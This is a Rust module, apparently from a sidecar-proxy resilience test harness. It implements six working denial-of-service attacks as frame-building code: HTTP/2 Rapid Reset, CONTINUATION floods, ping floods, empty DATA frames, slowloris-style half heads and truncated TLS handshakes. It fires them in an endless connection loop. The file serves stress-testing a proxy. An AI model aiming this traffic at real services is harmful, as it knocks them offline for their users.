//! Attacks on a sidecar, from outside the mesh. The rate is bounded: what is measured beside them shares the attacker's
//! processor, and must not wait for that.

use std::{net::SocketAddr, time::Duration};

use clap::ValueEnum as _;
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    time::{interval, timeout},
};

/// What a connection of the attacker does.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub(crate) enum Attack {
    /// HTTP/2 requests that are reset at once.
    RapidReset,
    /// A head of HTTP/2 that never ends.
    Continuations,
    /// HTTP/2 pings.
    Pings,
    /// HTTP/2 data frames without data.
    EmptyData,
    /// Half a head of HTTP/1, and then nothing.
    SlowHeads,
    /// A ClientHello's first bytes, and then nothing.
    HalfHandshakes,
}

/// Connections per second of a flood: each ends when the proxy has had enough of it.
const FLOODS: u32 = 20;
/// Connections per second of those that wait.
const WAITING: u32 = 200;
/// A flood's frames are sent in chunks of so many.
const FRAMES: u32 = 100;
const CHUNKS_MAX: u32 = 2_000;
const LIMIT: Duration = Duration::from_secs(30);

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// `POST http://web/`, in HPACK.
const HEAD: &[u8] = b"\x83\x86\x84\x01\x03web";

impl Attack {
    /// As it is named on the command line and, with `_` for `-`, in metrics.
    pub(crate) fn name(self) -> String {
        let value = self.to_possible_value().expect("no attack is hidden");
        value.get_name().to_owned()
    }

    /// Whether frames follow without end.
    fn floods(self) -> bool {
        !matches!(self, Self::SlowHeads | Self::HalfHandshakes)
    }

    /// What is sent first.
    fn opening(self) -> Vec<u8> {
        let head_flags = match self {
            Self::SlowHeads => return b"GET / HTTP/1.1\r\nhost: web\r\n".to_vec(),
            Self::HalfHandshakes => return vec![22, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3],
            Self::Continuations => 0,
            Self::RapidReset | Self::Pings | Self::EmptyData => END_HEADERS,
        };
        let settings = frame(SETTINGS, 0, 0, &[]);
        [PREFACE, &settings, &frame(HEADERS, head_flags, 1, HEAD)].concat()
    }

    fn chunk(self, number: u32) -> Vec<u8> {
        let frames = number * FRAMES..(number + 1) * FRAMES;
        let stream = |frame: u32| frame * 2 + 3;
        match self {
            Self::RapidReset => frames
                .flat_map(|at| {
                    let head = frame(HEADERS, END_HEADERS | END_STREAM, stream(at), HEAD);
                    [head, frame(RST_STREAM, 0, stream(at), &[0, 0, 0, 8])].concat()
                })
                .collect(),
            Self::Continuations => frames
                .flat_map(|_| frame(CONTINUATION, 0, 1, b"\0\x01x\x01y"))
                .collect(),
            Self::EmptyData => frames.flat_map(|_| frame(DATA, 0, 1, &[])).collect(),
            _ => frames.flat_map(|_| frame(PING, 0, 0, &[7; 8])).collect(),
        }
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("small").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Attacks until the process is killed.
pub(super) async fn run(address: SocketAddr, attack: Attack) -> anyhow::Result<()> {
    let per_second = if attack.floods() { FLOODS } else { WAITING };
    let mut tick = interval(Duration::from_secs(1) / per_second);
    loop {
        tick.tick().await;
        tokio::spawn(timeout(LIMIT, one(address, attack)));
    }
}

/// Until the proxy ends the connection.
async fn one(address: SocketAddr, attack: Attack) {
    let Ok(tcp) = TcpStream::connect(address).await else {
        return;
    };
    let (mut read, mut write) = tcp.into_split();
    let sending = async {
        write.write_all(&attack.opening()).await?;
        if attack.floods() {
            for number in 0..CHUNKS_MAX {
                write.write_all(&attack.chunk(number)).await?;
            }
        }
        std::future::pending::<std::io::Result<()>>().await
    };
    let reading = async {
        let mut sink = [0; 4096];
        while read.read(&mut sink).await.is_ok_and(|count| count > 0) {}
    };
    tokio::select! {
        _ = sending => {}
        () = reading => {}
    }
}
